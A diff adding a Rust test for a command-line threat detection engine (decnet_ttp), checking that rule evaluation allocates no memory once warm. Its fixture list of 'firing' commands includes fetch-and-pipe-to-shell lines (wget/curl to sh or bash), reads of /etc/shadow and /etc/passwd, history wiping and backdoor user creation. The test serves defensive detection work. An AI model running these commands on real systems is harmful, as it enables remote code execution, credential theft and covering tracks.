@@ -1,0 +1,77 @@
+// SPDX-License-Identifier: AGPL-3.0-or-later
+//! Evaluation does not allocate once warm: counted, on events that were not seen before.
+
+#![allow(clippy::unwrap_used, clippy::panic, reason = "a test stops at the first surprise and says so")]
+
+use std::alloc::System;
+
+use decnet_ttp::engine::Scratch;
+use decnet_ttp::vocab::Limits;
+use decnet_ttp::{Engine, Event, compile};
+use stats_alloc::{INSTRUMENTED_SYSTEM, Region, StatsAlloc};
+
+#[global_allocator]
+static GLOBAL: &StatsAlloc<System> = &INSTRUMENTED_SYSTEM;
+
+/// Command lines of many shapes; `salt` makes every one of them new.
+fn lines(salt: usize) -> Vec<String> {
+    const SILENT: [&str; 8] = [
+        "ls -la /srv/app{}",
+        "echo hello {}",
+        "vim notes-{}.txt",
+        "make -j{}",
+        "tar tf backup-{}.tar",
+        "grep -rn TODO src/{}",
+        "df -h /mnt/{}",
+        "printf 'naïve {}\u{301} ß'",
+    ];
+    const FIRING: [&str; 9] = [
+        "cat /etc/shadow # {}",
+        "wget http://198.51.100.{}/x.sh -O- | sh",
+        "find / -perm -4000 -type f 2>/dev/null; echo {}",
+        "useradd -m -s /bin/bash user{}",
+        "history -c; rm -f ~/.bash_history; echo {}",
+        "nmap -sS 10.0.0.{}",
+        "python3 -c 'import os; os.system(\"id {}\")'",
+        "echo {} é; cat /etc/passwd",
+        "WGET http://é.example/{}; curl http://x/{} | bash",
+    ];
+    SILENT
+        .iter()
+        .chain(&FIRING)
+        .enumerate()
+        .map(|(index, text)| {
+            let command = text.replace("{}", &format!("{salt}"));
+            let payload = serde_json::json!({
+                "command_text": command, "uid": "0", "user": "root", "src": "203.0.113.7", "pwd": "/root",
+            });
+            let escaped = payload.to_string().replace('/', if index % 3 == 0 { "\\/" } else { "/" });
+            format!(
+                r#"{{"source_kind":"command","source_id":"s{salt}#{index}","attacker_uuid":"a","payload":{escaped}}}"#
+            )
+        })
+        .collect()
+}
+
+fn evaluate(engine: &Engine, scratch: &mut Scratch, lines: &[Event<'_>]) -> usize {
+    lines.iter().map(|event| engine.evaluate_with(event, scratch).len()).sum()
+}
+
+#[test]
+fn evaluate_with_allocates_nothing_once_warm() {
+    let engine = Engine::new(compile::builtin().unwrap());
+    let mut scratch = engine.scratch();
+    let limits = Limits::default();
+    let warm: Vec<String> = (1000..1020).flat_map(lines).collect();
+    let unseen: Vec<String> = (5000..5100).flat_map(lines).collect();
+    let parse = |lines: &[String]| -> Vec<Event<'static>> {
+        lines.iter().map(|line| Event::parse(Box::leak(line.clone().into_boxed_str()), &limits).unwrap()).collect()
+    };
+    let (warm, unseen) = (parse(&warm), parse(&unseen));
+    evaluate(&engine, &mut scratch, &warm);
+    let region = Region::new(GLOBAL);
+    let hits = evaluate(&engine, &mut scratch, &unseen);
+    let change = region.change();
+    assert!(hits > 500, "{hits} hits: the firing lines do not fire");
+    assert_eq!(change.allocations + change.reallocations, 0, "{change:?}");
+}
